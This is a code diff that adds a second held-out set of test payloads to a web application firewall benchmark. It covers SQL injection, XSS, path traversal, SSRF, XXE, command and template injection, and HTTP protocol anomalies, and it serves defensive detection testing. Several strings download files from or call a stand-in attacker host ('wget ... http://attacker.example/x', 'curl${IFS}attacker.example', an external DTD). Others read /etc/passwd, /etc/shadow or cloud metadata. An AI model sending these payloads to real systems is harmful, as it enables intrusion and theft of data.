@@ -116,7 +116,13 @@ public static class HeldOutCorpus
 
     public static IEnumerable<WafCase> All()
     {
-        foreach (var (family, payloads) in new[] { ("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command) })
+        foreach (var attack in Place(("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command))) yield return attack;
+        foreach (var anomaly in Protocol()) yield return anomaly;
+    }
+
+    private static IEnumerable<WafCase> Place(params (string Family, string[] Payloads)[] families)
+    {
+        foreach (var (family, payloads) in families)
         {
             foreach (var payload in payloads)
             {
@@ -139,6 +145,56 @@ public static class HeldOutCorpus
                 }
             }
         }
-        foreach (var anomaly in Protocol()) yield return anomaly;
+    }
+
+    /// <summary>
+    /// A second held-out set, written after the rules were changed for the first and measured once without changing
+    /// them again: the fairer estimate of detection on payloads nobody tuned for (bench/RESULTS.md).
+    /// </summary>
+    public static class Fresh
+    {
+        public static readonly string[] Sqli =
+        [
+            "1' AnD 8=8 AnD 'x'='x", "-1' OR 3*2=6-- ", "x\" OR \"a\"=\"a", "1 AND 1 LIKE 1", "')) OR (('a'='a", "1' GROUP BY 1,2,3-- -",
+            "' UNION ALL SELECT NULL,version(),NULL-- -", "1' AND (SELECT 1 WHERE 1=1)='1", "1';SELECT * FROM pg_user--", "1 AND (SELECT pg_sleep(2) WHERE 1=1) IS NULL",
+            "abc' || (SELECT CASE WHEN 1=1 THEN 'a' END) || '", "%27%09OR%09%271%27%3D%271", "admin'/**/--", "1/**/AND/**/1=1", "' oR 1=1 LiMiT 1#",
+            "1 AnD 1=0 UnIoN/**/SeLeCt 1,table_name FrOm information_schema.tables", "x' AND 1=(SELECT 1 FROM pg_database LIMIT 1)--", "1' WAITFOR DELAY '0:0:3'--",
+            "'; DELETE FROM users WHERE '1'='1", "1)) AND 5=5 AND ((2=2",
+        ];
+
+        public static readonly string[] Xss =
+        [
+            "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>", "<audio autoplay onplay=alert(1)><source src=x>", "<svg><g/onload=alert(2)//<p>",
+            "<IFRAME SRC=# onmouseover=\"alert(1)\"></IFRAME>", "<a onmouseover=\"alert(document.cookie)\">link</a>", "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+            "\"><svg/onload=confirm`1`>", "<object type=\"text/x-scriptlet\" data=\"http://x.example/s.html\"></object>", "<img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
+            "&lt;img src=x onerror=alert(1)&gt;", "%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E", "<a href=\"&#x6a;avascript&#x3a;alert(1)\">", "<video src=x onloadstart=alert(1)>",
+            "<input onblur=alert(1) autofocus><input autofocus>", "javascript://%0aalert(1)", "<sVg OnLoAd=alert(1)>", "'\"><marquee loop=1 onfinish=alert(1)>x",
+            "<table background=\"javascript:alert(1)\">",
+        ];
+
+        public static readonly string[] Traversal =
+        [
+            "../../../etc/shadow%00", "..%2F..%2F..%2F..%2Fetc%2Fissue", "....\\/....\\/etc/passwd", "/..%252f..%252f..%252fetc/passwd", "%252e%252e%255cwindows%255csystem.ini",
+            "..\\..\\..\\..\\..\\Windows\\win.ini", "/proc/self/cwd/appsettings.json", "file://localhost/etc/hosts", "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
+            "http://169.254.169.254.nip.io/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/", "gopher://localhost:5432/_%00",
+            "<!DOCTYPE x SYSTEM \"http://attacker.example/x.dtd\"><x/>", ".../.../.../etc/passwd", "..%5c..%5c..%5c..%5cetc%5cpasswd",
+        ];
+
+        public static readonly string[] Command =
+        [
+            "; cat /etc/hosts", "|| whoami", "| id;", "`uname -a`", "$(id)", "; wget -O /tmp/x http://attacker.example/x", "\nwhoami\n", "%0a%0dcat%20/etc/passwd",
+            ";$(printf 'id')", "a;l\\s -la", "& ping -n 5 127.0.0.1 &", "|| curl${IFS}attacker.example", "${jndi:ldaps://x.example/a}",
+            "${${lower:jnd}${lower:i}:ldap://x.example/a}", "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "${{7*7}}", "<%= system('id') %>", "#{system('id')}",
+        ];
+
+        public static IEnumerable<WafCase> All()
+        {
+            const string path = "/collections/countries/items";
+            foreach (var attack in Place(("sqli", Sqli), ("xss", Xss), ("traversal", Traversal), ("command", Command))) yield return attack;
+            yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = "identity" });
+            yield return new("protocol", "POST", path, new Dictionary<string, string> { ["Transfer-Encoding"] = ",chunked" });
+            yield return new("protocol", "GET", path, new Dictionary<string, string> { ["X-A"] = "a\0b" });
+            yield return new("protocol", "SEARCH", path, WafCase.NoHeaders);
+        }
     }
 }
